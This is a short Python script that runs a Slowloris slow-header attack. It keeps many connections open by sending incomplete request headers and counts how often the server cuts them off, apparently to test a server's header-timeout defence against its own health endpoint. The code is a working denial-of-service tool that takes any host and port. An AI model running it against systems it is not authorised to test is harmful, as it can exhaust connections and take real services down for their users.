#!/usr/bin/env python3
"""Slowloris client: N connections that each send a request's headers one small piece at a time and
never finish them; a connection the server closes is opened again at once. Prints how many
connections the server closed (header deadline) while it ran.
usage: slowloris.py HOST PORT CONNECTIONS SECONDS"""
import socket, sys, time

host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])

def open_one():
    s = socket.create_connection((host, port), timeout=5)
    s.setblocking(False)
    s.send(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    return s

conns = [open_one() for _ in range(n)]
closed = 0
end = time.time() + secs
while time.time() < end:
    for i, s in enumerate(conns):
        try:
            s.send(b"X-a: b\r\n")  # one more header line, never the blank line that ends them
            try:
                s.recv(4096)  # any answer (408) or the end of the stream: the server cut it
                raise ConnectionError
            except BlockingIOError:
                pass
        except (ConnectionError, OSError):
            closed += 1
            s.close()
            try:
                conns[i] = open_one()
            except OSError:
                pass
    time.sleep(1.0)
print(f"slowloris: {n} connections for {secs:.0f} s, {closed} closed by the server and reopened")
